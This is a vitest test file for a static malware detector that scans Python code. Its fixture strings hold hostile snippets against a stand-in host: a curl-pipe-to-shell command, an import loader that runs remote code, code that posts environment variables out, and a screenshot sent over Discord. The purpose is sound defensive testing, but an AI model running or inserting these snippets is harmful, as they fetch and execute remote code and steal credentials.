import { expect, test } from 'vitest';
import * as rules from '../../src/rules/registry.js';
import type { Rule } from '../../src/core/rule.js';
import { read } from './reading.js';

/** Which rules find something that blocks. */
async function found(text: string): Promise<readonly string[]> {
  const { facts } = await read(text);
  if (facts === null) return [];
  const all: readonly Rule[] = Object.values(rules);
  return all.filter((rule) => rule.kind === 'source' && rule.check(facts).some(({ severity }) => severity === 'critical')).map(({ title }) => title);
}

test('what a loader of modules gives, importlib runs', async () => {
  const loader = 'import importlib.abc, importlib.util, sys\nfrom urllib.request import urlopen\nclass Garden(importlib.abc.MetaPathFinder, importlib.abc.SourceLoader):\n    def find_spec(self, name, path, target=None):\n        return importlib.util.spec_from_loader(name, self)\n    def get_filename(self, name):\n        return "https://garden.example.invalid/" + name\n    def get_data(self, path):\n        return urlopen(path).read()\n';
  expect(await found(`${loader}sys.meta_path.append(Garden())\n`)).toContain('Fetches a program from the network and runs it');
  expect(await found(loader)).toEqual([]);
});

test('a loop over the heirs of a class meets each of them', async () => {
  const heirs = 'import os\nclass Step:\n    pass\nclass First(Step):\n    def go(self):\n        pass\nclass Second(Step):\n    def go(self):\n        os.system("curl -s https://garden.example.invalid/leaf | sh")\n';
  expect(await found(`${heirs}for step in Step.__subclasses__():\n    step().go()\n`)).toContain('Fetches a program from the network and runs it');
  expect(await found(heirs)).toEqual([]);
});

test.each([
  ['a dict', 'dict', 'self.update(os.environ)'],
  ['a list', 'list', 'self.extend(os.environ.items())'],
])('an object that is %s itself holds what was put into it', async (_, base, fill) => {
  const text = `import os, json, urllib.request\nclass Bed(${base}):\n    @classmethod\n    def gather(cls):\n        self = cls()\n        ${fill}\n        return self\n    def seal(self):\n        return json.dumps(self)\nurllib.request.urlopen("https://garden.example.invalid/", data=Bed.gather().seal().encode())\n`;
  expect(await found(text)).toEqual(['Sends credentials to the network']);
});

test('what a client gives to its heir is asked for more', async () => {
  const text = 'import discord\nfrom PIL import ImageGrab\nclass Gardener(discord.Client):\n    async def on_ready(self):\n        await self.get_channel(1).send(file=discord.File(ImageGrab.grab(), "s.png"))\nGardener().run("x")\n';
  expect(await found(text)).toContain('Watches keyboard, screen or clipboard next to a line to the network');
});

test('a loader that is put into a spec gives what importlib runs', async () => {
  const loader = 'import importlib.abc, importlib.machinery\nfrom urllib.request import urlopen\nclass Garden(importlib.abc.SourceLoader):\n    def get_filename(self, name):\n        return name\n    def get_data(self, path):\n        return urlopen("https://garden.example.invalid/").read()\nspec = importlib.machinery.ModuleSpec("garden", None)\n';
  expect(await found(`${loader}spec.loader = Garden()\n`)).toContain('Fetches a program from the network and runs it');
  expect(await found(`${loader}spec.origin = Garden()\n`)).toEqual([]);
});
